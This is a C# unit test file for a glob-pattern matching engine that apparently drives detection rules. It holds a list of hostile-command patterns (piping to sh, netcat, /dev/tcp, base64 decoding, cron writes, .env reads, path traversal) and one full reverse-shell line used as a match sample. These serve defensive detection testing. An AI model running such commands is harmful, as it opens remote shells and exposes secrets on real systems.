using System.Text;
using RuleGen.Compiler;
using RuleGen.Compiler.Patterns;
using RuleGen.Semantics;

namespace RuleGen.Tests.Semantics;

public class PatternSetTests
{
    /// <summary>
    /// What texts are made of besides pieces of patterns: neighbours of letters under the fold, a look-alike of k, characters whose low
    /// byte or whose saturation is an ASCII letter, halves of pairs.
    /// </summary>
    private const string Noise =
        "aAbBkKsS /.-|*?_@`[{]}^~\\\0\n\u007F\u00E9\u00C9\u0141\u0161\u212A\u017F\u2F61\u8061\uFF41\uFFFF\uD83D\uDE00";

    private static readonly string[] Realistic =
    [
        "* /tmp/* ", "*|sh", "*| sh *", "*|bash*", "*|*base64 -d*", "*xxd *", "*python -c*", "* nc *", "*/dev/tcp*", "*stty*raw*-echo*",
        "*>*/etc/cron*", "*KEY_ID*", "*cat*.env *", "*#!*", "*<?php*?>*", "*../../../*etc/*", "*/.../*", "* id *", "sh -c *", "*.cgi",
        "C:\\*\\x.exe", "?:\\w*", "*|*", "a*", "*z", "exact", "k?s*", "*\u00E9t\u00E9*", "*\u212A*", "x\uD83D\uDE00*y", "**b**c**", "",
    ];

    [Fact]
    public void Every_single_pattern_agrees_with_the_naive_matcher_on_all_short_texts()
    {
        List<string> texts = Texts.All("aA`b", 4);
        foreach (string pattern in Texts.All("aA*?", 4))
        {
            foreach (bool ignoringCase in (bool[])[false, true])
            {
                PatternSet[] sets = Sets([pattern], ignoringCase, Plan([pattern], ignoringCase));
                foreach (string text in texts)
                    Check(sets, [pattern], ignoringCase, text);
            }
        }
    }

    [Fact]
    public void Every_pair_of_short_patterns_agrees_with_the_naive_matcher_inside_longer_texts()
    {
        List<string> patterns = [.. Texts.All("aB*", 3).Where(p => p.Length > 1)];
        int[] offsets = [0, 5, 14, 29, 31, 62];
        string[] texts = [.. from t in Texts.All("abB", 3) from n in offsets select new string('-', n) + t + new string('.', 20)];
        for (int i = 0; i < patterns.Count; i++)
        {
            string[] pair = ["*" + patterns[i] + "*", patterns[^(i + 1)] + ".*"];
            foreach (bool ignoringCase in (bool[])[false, true])
            {
                PatternSet[] sets = Sets(pair, ignoringCase, Plan(pair, ignoringCase));
                foreach (string text in texts)
                    Check(sets, pair, ignoringCase, text);
            }
        }
    }

    [Theory]
    [InlineData("/dev/tcp")]
    [InlineData("k@Z")]
    [InlineData("#!")]
    [InlineData("longer than eight")]
    public void A_literal_is_found_at_every_place_of_texts_of_every_length(string literal)
    {
        string[] patterns = ["*" + literal + "*"];
        foreach (bool ignoringCase in (bool[])[false, true])
        {
            PatternSet[] sets = Sets(patterns, ignoringCase, Plan(patterns, ignoringCase));
            for (int length = 0; length <= 100; length++)
            {
                Check(sets, patterns, ignoringCase, new string('x', length));
                for (int at = 0; at + literal.Length <= length; at++)
                {
                    string text = new string('x', at) + literal + new string('x', length - at - literal.Length);
                    Check(sets, patterns, ignoringCase, text);
                    Check(sets, patterns, ignoringCase, Texts.Fold(text));
                    Check(sets, patterns, ignoringCase, text.Replace('@', '`').Replace('k', '\u212A').Replace('t', '\u0174'));
                }
            }
        }
    }

    [Theory]
    [InlineData(1)]
    [InlineData(2)]
    [InlineData(3)]
    [InlineData(4)]
    public void Random_sets_agree_with_the_naive_matcher(int seed)
    {
        var random = new Random(seed);
        for (int round = 0; round < 150; round++)
        {
            bool ignoringCase = random.Next(2) == 0;
            string[] patterns = [.. Enumerable.Range(0, random.Next(1, round % 10 == 0 ? 300 : 30)).Select(_ => RandomPattern(random))];
            PatternSet[] sets =
            [
                .. Sets(patterns, ignoringCase, Plan(patterns, ignoringCase)),
                .. Sets(patterns, ignoringCase, RandomPlan(random, patterns)),
            ];
            for (int i = 0; i < 60; i++)
                Check(sets, patterns, ignoringCase, RandomText(random, patterns));
        }
    }

    [Fact]
    public void Sixteen_buckets_agree_with_the_naive_matcher()
    {
        var random = new Random(5);
        string[] patterns = [.. Enumerable.Range(0, 200).Select(i => "*" + (char)('a' + (i % 26)) + i + "*")];
        PatternSet[] sets = Sets(patterns, true, Plan(patterns, true));
        Assert.Contains('P', Plan(patterns, true));
        for (int i = 0; i < 500; i++)
            Check(sets, patterns, true, RandomText(random, patterns[..3]));
    }

    [Fact]
    public void The_best_path_of_this_machine_is_taken_by_default()
    {
        var set = new PatternSet(ignoringCase: true, Plan(Realistic, true), Realistic);
        Assert.True(set.Matches("bash -i >& /DEV/tcp/10.0.0.1/99 0>&1"));
        Assert.False(set.Matches("make all"));
    }

    [Fact]
    public void A_set_without_patterns_matches_nothing() => Assert.False(new PatternSet(false, "").Matches(""));

    [Theory]
    [InlineData("")]
    [InlineData("A")]
    [InlineData("A1")]
    [InlineData("A5")]
    [InlineData("Q3")]
    [InlineData("<2")]
    [InlineData(">3")]
    [InlineData("-1")]
    [InlineData("A3A3")]
    public void A_plan_for_other_patterns_is_refused(string plan) =>
        Assert.Throws<ArgumentException>(() => new PatternSet(false, plan, "*abc*"));

    [Fact]
    public void Matching_allocates_nothing()
    {
        string[] many = [.. Enumerable.Range(0, 300).Select(i => $"*a{i}*b{i}*"), .. Realistic];
        foreach (string[] patterns in (string[][])[Realistic, many])
        {
            PatternSet[] sets = Sets(patterns, true, Plan(patterns, true));
            string[] texts = ["", "k", "make -j8 all", "cat a12 b1 > /dev/null | tee x", new string('|', 500)];
            int found = 0;
            Assert.Equal(0, AllocatedBytes.Of(() =>
            {
                foreach (PatternSet set in sets)
                {
                    foreach (string text in texts)
                        found += set.Matches(text) ? 1 : 0;
                }
            }));
            Assert.True(found > 0);
        }
    }

    [Fact]
    public void An_attacker_cannot_cause_more_than_one_comparison_for_each_pattern_and_place()
    {
        string[] patterns = [.. Realistic.Where(p => p.Length > 0 && p != "*|*"), .. Enumerable.Range(0, 100).Select(i => $"*aaaaaaa{i}*")];
        string[] pieces =
        [
            "a", "aaaaaaa", "| s", "/.", "stty raw -ech", ">/etc/cro", "cat .en", "|base64 -", "../../../", "<?php", "b c b",
        ];
        const int Length = 20_000;
        foreach (PatternSet set in Sets(patterns, true, Plan(patterns, true)))
        {
            foreach (string piece in pieces)
            {
                string text = string.Concat(Enumerable.Repeat(piece, Length / piece.Length));
                set.Matches(text, out CountedWork work);
                Assert.True(work.Places <= text.Length + 4, $"{piece}: {work.Places} places");
                Assert.True(work.Windows <= (long)text.Length * patterns.Length, $"{piece}: {work.Windows} windows");
                Assert.True(work.Literals <= (long)text.Length * patterns.Length, $"{piece}: {work.Literals} literals");
                Assert.True(work.WholeTexts <= patterns.Length, $"{piece}: {work.WholeTexts} comparisons with the whole text");
            }
        }
    }

    [Fact]
    public void A_repeated_key_of_a_pattern_of_several_literals_costs_one_comparison()
    {
        string[] patterns = ["*stty*raw*"];
        foreach (PatternSet set in Sets(patterns, true, Plan(patterns, true)))
        {
            Assert.False(set.Matches(string.Concat(Enumerable.Repeat("stty ", 1000)) + "rawr".Replace("raw", "rax"), out CountedWork work));
            Assert.True(work.WholeTexts <= 1);
        }
    }

    private static void Check(PatternSet[] sets, string[] patterns, bool ignoringCase, string text)
    {
        bool expected = patterns.Any(p => NaivelyMatches(text, p, ignoringCase));
        for (int i = 0; i < sets.Length; i++)
        {
            bool actual = sets[i].Matches(text);
            if (actual != expected)
            {
                string against = string.Join(" , ", patterns.Select(Escape));
                Assert.Fail($"set {i}, ignoring case {ignoringCase}: {actual} for '{Escape(text)}' against {against}");
            }
        }
    }

    private static PatternSet[] Sets(string[] patterns, bool ignoringCase, string plan) =>
    [
        .. from path in Enum.GetValues<PatternSetPath>() where path <= PatternSet.BestPath
           select new PatternSet(path, ignoringCase, plan, patterns),
    ];

    private static string Plan(string[] patterns, bool ignoringCase) => PatternSetPlanner.Plan(EquatableArray.Of(patterns), ignoringCase);

    /// <summary>The definition: all ways a star can be taken, on code points.</summary>
    private static bool NaivelyMatches(string text, string pattern, bool ignoringCase)
    {
        List<string> t = CodePoints(ignoringCase ? Texts.Fold(text) : text);
        List<string> p = CodePoints(ignoringCase ? Texts.Fold(pattern) : pattern);
        var reached = new bool[t.Count + 1];
        reached[0] = true;
        foreach (string unit in p)
        {
            var next = new bool[t.Count + 1];
            for (int i = 0; i <= t.Count; i++)
            {
                next[i] = unit switch
                {
                    "*" => reached[i] || (i > 0 && next[i - 1]),
                    "?" => i > 0 && reached[i - 1],
                    _ => i > 0 && reached[i - 1] && t[i - 1] == unit,
                };
            }

            reached = next;
        }

        return reached[t.Count];
    }

    private static List<string> CodePoints(string text)
    {
        var points = new List<string>();
        for (int i = 0; i < text.Length; i++)
        {
            bool isPair = char.IsHighSurrogate(text[i]) && i + 1 < text.Length && char.IsLowSurrogate(text[i + 1]);
            points.Add(isPair ? text.Substring(i++, 2) : text[i].ToString());
        }

        return points;
    }

    private static string RandomPattern(Random random)
    {
        if (random.Next(2) == 0)
            return Realistic[random.Next(Realistic.Length)];
        var pattern = new StringBuilder();
        for (int pieces = random.Next(1, 4); pieces > 0; pieces--)
        {
            pattern.Append(random.Next(4) == 0 ? "" : "*");
            for (int length = random.Next(1, 12); length > 0; length--)
                pattern.Append(Noise[random.Next(random.Next(3) == 0 ? Noise.Length : 12)]);
        }

        return pattern.Append(random.Next(2) == 0 ? "*" : "").ToString();
    }

    /// <summary>Pieces of the patterns, some of them damaged, among noise; 0 to 200 characters.</summary>
    private static string RandomText(Random random, string[] patterns)
    {
        var text = new StringBuilder();
        int length = random.Next(0, 200);
        while (text.Length < length)
        {
            if (random.Next(3) > 0)
            {
                text.Append(Noise[random.Next(Noise.Length)]);
                continue;
            }

            string[] pieces = patterns[random.Next(patterns.Length)].Split('*');
            string piece = pieces[random.Next(pieces.Length)];
            int cut = random.Next(4) == 0 ? random.Next(piece.Length + 1) : piece.Length;
            piece = piece[..cut];
            text.Append(random.Next(3) switch { 0 => piece, 1 => Texts.Fold(piece), _ => piece.ToUpperInvariant() });
        }

        return text.ToString();
    }

    /// <summary>Any role and place that the layout of plans allows.</summary>
    private static string RandomPlan(Random random, string[] patterns)
    {
        var plan = new StringBuilder();
        foreach (string pattern in patterns)
        {
            var choices = new List<string> { "--" };
            for (int place = 1; place < Math.Min(pattern.Length, 36); place++)
            {
                if (!IsKey(pattern[place]) || !IsKey(pattern[place - 1]))
                    continue;
                string digit = place < 10 ? $"{place}" : $"{(char)('A' + place - 10)}";
                choices.Add((char)('A' + random.Next(16)) + digit);
                if (pattern.AsSpan(0, place).IndexOfAny('*', '?') < 0)
                    choices.Add("<" + digit);
                if (pattern.AsSpan(place).IndexOfAny('*', '?') < 0)
                    choices.Add(">" + digit);
            }

            plan.Append(choices[random.Next(choices.Count)]);
        }

        return plan.ToString();

        static bool IsKey(char c) => c < 128 && c is not ('*' or '?');
    }

    private static string Escape(string text) =>
        string.Concat(text.Select(c => c is >= ' ' and < (char)127 ? c.ToString() : $"\\u{(int)c:X4}"));
}
